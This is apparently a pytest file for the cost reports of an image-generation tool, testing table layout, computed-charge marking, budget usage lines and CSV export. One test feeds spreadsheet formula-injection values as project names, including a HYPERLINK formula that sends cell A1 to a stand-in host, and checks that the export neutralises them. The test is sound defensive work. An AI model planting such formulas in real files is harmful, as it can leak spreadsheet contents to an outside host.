"""Can a person read what was spent, and a spreadsheet without harm?"""

from __future__ import annotations

import csv
import io

from imgen.money.budget import Span, Spending, Standing
from imgen.money.report import By, Use, cost_report
from imgen.records import UNKNOWN, Cost
from imgen.screen.costs import cost_csv, cost_lines, use_line

GMI = Spending("2027-01-15", "gmicloud", "pro", "/work", Standing.COUNTS, Cost("0.134", "usd"), UNKNOWN, 3)
STUDIO = GMI._replace(provider="3daistudio", project=None, each=Cost("15", "credits"), jobs=1)
KNOWN = [
    GMI,
    STUDIO,
    STUDIO._replace(standing=Standing.UNCERTAIN),
    GMI._replace(day="2027-01-16", each=UNKNOWN, jobs=2),
    GMI._replace(day="2027-01-16", charged=Cost("0.12", "usd"), jobs=1),
]


def test_the_table_has_a_line_for_each_unit_and_a_total() -> None:
    assert cost_lines(cost_report(KNOWN, By.DAY, None, None), width=None) == [
        "DAY         JOBS  ESTIMATED                 CHARGED        MAY HAVE BEEN CHARGED",
        "2027-01-15     3  $0.402",
        "               2  15 credits of 3daistudio                 15 credits of 3daistudio (1 job)",
        "2027-01-16     1  $0.134                    $0.12 (1 job)",
        "               2  unknown",
        "total          4  $0.536                    $0.12 (1 job)",
        "               2  15 credits of 3daistudio                 15 credits of 3daistudio (1 job)",
        "               2  unknown",
    ]


def test_a_computed_charge_is_marked() -> None:
    computed = GMI._replace(charged=Cost("0.13", "usd", computed=True))
    reported = GMI._replace(charged=Cost("0.12", "usd"), jobs=1)

    assert cost_lines(cost_report([computed], By.MODEL, None, None), width=None)[1:] == [
        "gmicloud/pro     3  $0.402     $0.39 (3 jobs, computed)"
    ]
    assert cost_lines(cost_report([computed, reported], By.MODEL, None, None), width=None)[1:] == [
        "gmicloud/pro     4  $0.536     $0.51 (4 jobs, 3 computed)"
    ]


def test_what_is_not_known_takes_no_column_and_a_total_of_one_is_left_out() -> None:
    assert cost_lines(cost_report([GMI], By.PROJECT, None, None), width=None) == [
        "PROJECT  JOBS  ESTIMATED",
        "/work       3  $0.402",
    ]
    assert cost_lines(cost_report([STUDIO], By.PROJECT, None, None), width=None)[1].startswith("none ")


def test_a_narrow_terminal_keeps_the_estimate() -> None:
    narrow = cost_lines(cost_report(KNOWN, By.DAY, None, None), width=50)

    assert max(map(len, narrow)) <= 50
    assert narrow[0] == "DAY         JOBS  ESTIMATED"


def test_a_spreadsheet_gets_every_line_and_runs_none() -> None:
    wicked = '=HYPERLINK("https://x/"&A1)'
    known = [GMI._replace(project=wicked), GMI._replace(project="@SUM(A1)\x1b[31m"), STUDIO._replace(project="a,b\nc")]

    heading, *rows = csv.reader(io.StringIO(cost_csv(cost_report(known, By.PROJECT, None, None))))

    assert heading == [
        *("project", "unit", "provider", "jobs", "estimated"),
        *("charged", "charged_jobs", "computed_jobs", "doubtful", "doubtful_jobs"),
    ]
    assert sorted(rows) == [
        [f"'{wicked}", "usd", "", "3", "0.402", "", "0", "0", "", "0"],
        ["'@SUM(A1)\\x1b[31m", "usd", "", "3", "0.402", "", "0", "0", "", "0"],
        ["a,b c", "credits", "3daistudio", "1", "15", "", "0", "0", "", "0"],
    ]


def test_a_limit_says_how_much_of_it_is_used_up() -> None:
    assert use_line(Use(Span.DAY, "IMGEN_BUDGET_DAY", "usd", None, "1.5", "5")) == (
        "Today: $1.50 of $5 (IMGEN_BUDGET_DAY)."
    )
    assert use_line(Use(Span.PROJECT, "imgen.toml", "credits", "reapi", "3", "5")) == (
        "This project: 3 of 5 credits of reapi (imgen.toml)."
    )
